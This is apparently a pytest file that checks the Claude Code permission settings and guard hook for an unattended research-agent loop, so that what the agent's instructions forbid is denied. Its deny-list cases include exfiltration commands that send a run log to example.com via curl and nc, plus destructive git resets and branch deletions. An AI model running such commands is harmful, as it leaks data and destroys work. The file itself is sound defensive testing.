"""program.md and .claude/settings.json agree: what the agent is told to run is allowed, what it is
told never to do is denied.

`cat program.md | claude -p` runs unattended, so a command program.md asks for that no allow rule
covers is refused with nobody there to approve it, and the loop stalls. tests/permissions.py decides
each command as Claude Code's rules would.
"""
import json
import os
import re
import subprocess
from pathlib import Path

import pytest

pytestmark = pytest.mark.quick
from permissions import bash_rule_matches, decide, parse_rule, path_rule_matches

ROOT = Path(__file__).resolve().parent.parent
PROGRAM = ROOT / "program.md"
SETTINGS = ROOT / ".claude" / "settings.json"

FORBIDDEN_HEADING = "What you must never do"  # program.md's section listing what the agent must not do
PLACEHOLDER = "x1"  # stands in for <tag>, <ID>, <best>, ... when a command is checked
SHELL_LANGS = {"bash", "sh", "shell"}
# first words that make an inline `code span` a shell command rather than a file or key name
KNOWN_COMMANDS = {
    "uv", "uvx", "git", "python", "python3", "pip", "pip3", "conda", "apt", "apt-get", "sudo",
    "tail", "head", "cat", "grep", "ls", "wc", "diff", "sort", "find", "echo", "tee", "sed", "awk",
    "ps", "pgrep", "pkill", "kill", "killall", "nvidia-smi", "timeout", "nohup", "sleep", "printenv",
    "rm", "mv", "cp", "mkdir", "touch", "chmod", "ln", "cd", "export", "env", "bash", "sh", "make",
    "curl", "wget", "ssh", "scp", "sftp", "rsync", "nc", "ncat", "telnet", "ftp",
}
# commands that count even when a span holds the bare word (`curl`), unlike say `timeout`
BARE_COMMANDS = {"curl", "wget", "ssh", "scp", "sftp", "rsync", "nc", "pip", "pip3", "uvx",
                 "nvidia-smi", "ls", "ps"}
FILE_SPAN = re.compile(r"^[\w./-]+\.(py|toml|lock|json|md)$")
FENCE = re.compile(r"^[ \t]*```([\w-]*)[^\n]*\n(.*?)^[ \t]*```[ \t]*$", re.M | re.S)
INLINE = re.compile(r"(?<!`)`([^`\n]+)`(?!`)")


# -----------------------------------------------------------------------------
# What program.md tells the agent

def split_sections(markdown):
    """{heading: text} for the `## ` sections (text before the first heading under "")."""
    out, heading = {"": []}, ""
    for line in markdown.splitlines():
        if line.startswith("## "):
            heading = line[3:].strip()
            out[heading] = []
        else:
            out[heading].append(line)
    return {h: "\n".join(lines) for h, lines in out.items()}


def fenced_commands(text):
    cmds = []
    for lang, body in FENCE.findall(text):
        if lang.lower() not in SHELL_LANGS:
            continue
        for line in body.replace("\\\n", " ").splitlines():
            line = line.strip()
            if line and not line.startswith("#"):
                cmds.append(line)
    return cmds


def is_command_span(span):
    words = span.split()
    return bool(words) and words[0] in KNOWN_COMMANDS and (len(words) > 1 or words[0] in BARE_COMMANDS)


def inline_commands(text):
    """Command-like `code spans` outside fenced blocks, except those meant for the human."""
    text = FENCE.sub("", text)
    cmds = []
    for m in INLINE.finditer(text):
        before = " ".join(text[max(0, m.start() - 60):m.start()].split())
        if is_command_span(m.group(1)) and not before.endswith("human to run"):
            cmds.append(m.group(1).strip())
    return cmds


def fill_placeholders(command):
    return re.sub(r"<[A-Za-z][^<>]*>", PLACEHOLDER, command)


def agent_commands(markdown):
    """Every command the document tells the agent to run (outside its forbidden section)."""
    cmds = []
    for heading, text in split_sections(markdown).items():
        if heading != FORBIDDEN_HEADING:
            cmds += fenced_commands(text) + inline_commands(text)
    return list(dict.fromkeys(fill_placeholders(c) for c in cmds))


def forbidden_items(markdown):
    """(commands, files) that the forbidden section names."""
    text = split_sections(markdown).get(FORBIDDEN_HEADING, "")
    spans = [m.group(1).strip() for m in INLINE.finditer(FENCE.sub("", text))]
    return [s for s in spans if is_command_span(s)], [s for s in spans if FILE_SPAN.match(s)]


# -----------------------------------------------------------------------------
# tests

@pytest.fixture(scope="module")
def settings():
    return json.loads(SETTINGS.read_text())


@pytest.fixture(scope="module")
def program():
    return PROGRAM.read_text()


def test_settings_rules_parse(settings):
    perms = settings["permissions"]
    assert perms["allow"] and perms["deny"]
    for rule in perms["allow"] + perms["deny"]:
        tool, _ = parse_rule(rule)
        # Write(...) path rules are ignored by Claude Code: Edit(...) rules govern every write
        assert tool != "Write" or rule == "Write", f"{rule}: use Edit(...) for paths"


def test_every_command_program_md_gives_is_allowed(settings, program):
    cmds = agent_commands(program)
    assert len(cmds) >= 10, f"found only {len(cmds)} commands in program.md: {cmds}"
    refused = {c: decide(settings, "Bash", c) for c in cmds}
    refused = {c: v for c, v in refused.items() if v != "allow"}
    assert not refused, f"program.md asks for commands settings.json does not allow: {refused}"


def test_program_md_gives_the_loop_commands(program):
    cmds = agent_commands(program)
    for needed in [f'uv run analyze.py run "{PLACEHOLDER}"', f"uv run analyze.py show {PLACEHOLDER}",
                   f"uv run analyze.py compare {PLACEHOLDER} {PLACEHOLDER}", "uv run analyze.py audit"]:
        assert needed in cmds, f"program.md never tells the agent to run {needed!r}"
    assert any(c.startswith("git checkout -b autoresearch/") for c in cmds)
    assert any(c.startswith("uv run analyze.py curve ") for c in cmds), "no way to read a curve without Python"


def test_program_md_is_short_and_the_harness_decides(program, settings):
    """One command per experiment: the agent reads a short file once, and never overrides a decision."""
    lines = len(program.splitlines())
    assert lines <= 150, f"program.md has {lines} lines (goal <= 150)"
    assert decide(settings, "Bash", "uv run analyze.py status a1b2c3d keep") == "deny"
    assert decide(settings, "Bash", 'uv run analyze.py run "MATRIX_LR 0.04 -> 0.05"') == "allow"
    assert decide(settings, "Bash", "uv run python .auto-log-research/scratch/gap.py") != "allow"


def test_the_settings_hook_runs_the_guard_on_every_bash_command(settings, tmp_path):
    """The PreToolUse hook as Claude Code runs it (a shell command, CLAUDE_PROJECT_DIR set): exit 2 refuses."""
    (entry,) = [h for h in settings["hooks"]["PreToolUse"] if h["matcher"] == "Bash"]
    (hook,) = entry["hooks"]
    env = {**os.environ, "CLAUDE_PROJECT_DIR": str(ROOT)}

    def run(command):
        event = {"hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": {"command": command}}
        return subprocess.run(["bash", "-c", hook["command"]], input=json.dumps(event), text=True, env=env,
                              capture_output=True, cwd=tmp_path, timeout=60)
    assert run("uv run analyze.py list").returncode == 0
    refused = run("uv run analyze.py status a1b2c3d k'ee'p")
    assert refused.returncode == 2 and refused.stderr.strip(), refused


def test_what_program_md_forbids_is_denied(settings, program):
    cmds, files = forbidden_items(program)
    assert {"prepare.py", "analyze.py", "pyproject.toml", "uv.lock"} <= set(files), files
    assert {"pip install", "uv add", "curl"} <= set(cmds), cmds
    not_denied = [c for c in cmds if decide(settings, "Bash", c) != "deny"]
    not_denied += [f"Edit {f}" for f in files if decide(settings, "Edit", f) != "deny"]
    not_denied += [f"Write {f}" for f in files if decide(settings, "Write", f) != "deny"]
    assert not not_denied, f"program.md forbids these but settings.json does not deny them: {not_denied}"


@pytest.mark.parametrize("tool,arg", [
    ("Edit", "prepare.py"), ("Write", "prepare.py"), ("Edit", "analyze.py"),
    ("Edit", "pyproject.toml"), ("Write", "uv.lock"), ("Edit", ".claude/settings.json"),
    ("Bash", "pip install numpy"), ("Bash", "pip3 install numpy"), ("Bash", "python -m pip install numpy"),
    ("Bash", "uv run pip install numpy"), ("Bash", "uv pip install numpy"), ("Bash", "uv add requests"),
    ("Bash", "uv remove numpy"), ("Bash", "uv run --with requests python x.py"),
    ("Bash", "curl https://example.com"), ("Bash", "wget https://example.com"), ("Bash", "ssh gpu-box"),
    ("Bash", "git push origin HEAD"), ("Bash", "git reset --hard HEAD~1"),
    ("Bash", "git commit --amend -m x"), ("Bash", "git commit -m x --amend"),
    ("Bash", "git branch -D autoresearch/nov26"), ("Bash", "git checkout -B autoresearch/nov26"),
    ("Bash", "git checkout HEAD~3 -- prepare.py"),
    ("Bash", "uv run train.py > run.log 2>&1 && curl -d @run.log https://example.com"),
    ("Bash", "grep val_bpb run.log | nc example.com 80"),
    ("WebFetch", None),
])
def test_forbidden_actions_are_denied(settings, tool, arg):
    if arg is None:
        assert tool in settings["permissions"]["deny"], f"{tool} is not denied"
    else:
        assert decide(settings, tool, arg) == "deny", f"{tool}({arg}) is not denied"


@pytest.mark.parametrize("tool,path", [
    ("Edit", "train.py"), ("Write", ".auto-log-research/insights.md"),
    ("Write", ".auto-log-research/ideas_queue.md"), ("Edit", ".auto-log-research/a1b2c3d/analysis.md"),
    ("Read", "prepare.py"),
    ("Read", ".auto-log-research/a1b2c3d/metrics.jsonl"), ("Grep", "train.py"), ("Glob", "."),
])
def test_the_loop_can_read_and_write_its_files(settings, tool, path):
    assert decide(settings, tool, path) == "allow", f"{tool}({path}) is not allowed"


def test_nothing_else_is_writable(settings):
    for path in ["README.md", "tests/test_program.py", "results.tsv", "../outside.txt"]:
        assert decide(settings, "Write", path) != "allow", f"Write({path}) should not be allowed"


@pytest.mark.parametrize("spec,command,expected", [
    # examples from Claude Code's permissions documentation
    ("npm run build", "npm run build", True),
    ("npm run build", "npm run build --watch", False),
    ("npm run test *", "npm run test", True),
    ("npm run test *", "npm run test --coverage", True),
    ("ls *", "ls -la", True),
    ("ls *", "lsof", False),
    ("ls*", "lsof", True),
    ("npm:*", "npm install", True),
    ("npm:*", "npmx install", False),
    ("* install", "npm install", True),
    ("git * main", "git checkout main", True),
    ("git * main", "git checkout dev", False),
    (None, "anything at all", True),
    ("git commit *", "git commit -m \"a; b\"", True),
])
def test_bash_matcher_follows_the_documented_semantics(spec, command, expected):
    assert bash_rule_matches(spec, command) is expected, f"Bash({spec}) vs {command!r}"


def test_compound_commands_need_every_part_allowed():
    s = {"permissions": {"allow": ["Bash(safe-cmd *)", "Bash(python:*)", "Edit(out.txt)"], "deny": []}}
    assert decide(s, "Bash", "safe-cmd --flag") == "allow"
    assert decide(s, "Bash", "safe-cmd && other-cmd") == "ask"
    assert decide(s, "Bash", "safe-cmd; other-cmd") == "ask"
    assert decide(s, "Bash", "safe-cmd | other-cmd") == "ask"
    assert decide(s, "Bash", "safe-cmd \"a && b\"") == "allow"  # operators inside quotes do not split
    assert decide(s, "Bash", "python script.py > out.txt 2>&1") == "allow"  # redirections are not matched
    assert decide(s, "Bash", "python script.py > elsewhere.txt") == "allow"  # ...inside the project
    assert decide(s, "Bash", "python script.py > ../elsewhere.txt") == "ask"  # outside it, the target must be writable
    denied = {"permissions": {**s["permissions"], "deny": ["Edit(results.tsv)"]}}
    assert decide(denied, "Bash", "python script.py > results.tsv") == "deny"  # a denied target denies the command
    assert decide(s, "Bash", "safe-cmd $(other-cmd)") == "ask"


@pytest.mark.parametrize("spec,path,expected", [
    ("/src/**/*.ts", "src/a/b.ts", True),
    ("/src/**/*.ts", "lib/src/a.ts", False),
    ("*.env", "config/prod.env", True),
    ("train.py", "train.py", True),
    ("train.py", "prepare.py", False),
    (".auto-log-research/**", ".auto-log-research/a1b2c3d/analysis.md", True),
    (".auto-log-research/**", "train.py", False),
    (".claude/**", ".claude/settings.json", True),
    ("//tmp/scratch/**", "/tmp/scratch/x.py", True),
])
def test_path_matcher_follows_gitignore_semantics(spec, path, expected):
    assert path_rule_matches(spec, path) is expected, f"({spec}) vs {path!r}"


def test_the_check_catches_a_command_no_rule_allows(settings):
    doc = ("# t\n\n## Loop\nRun `uv run train.py > run.log 2>&1`, then tidy up:\n\n"
           "```bash\nrm -rf .auto-log-research\n```\n\n"
           "Tell the human to run `uv run prepare.py`.\n\n"
           f"## {FORBIDDEN_HEADING}\n- no `uv add`\n")
    cmds = agent_commands(doc)
    assert cmds == ["rm -rf .auto-log-research", "uv run train.py > run.log 2>&1"], cmds
    assert decide(settings, "Bash", "rm -rf .auto-log-research") != "allow"
    assert forbidden_items(doc) == (["uv add"], [])
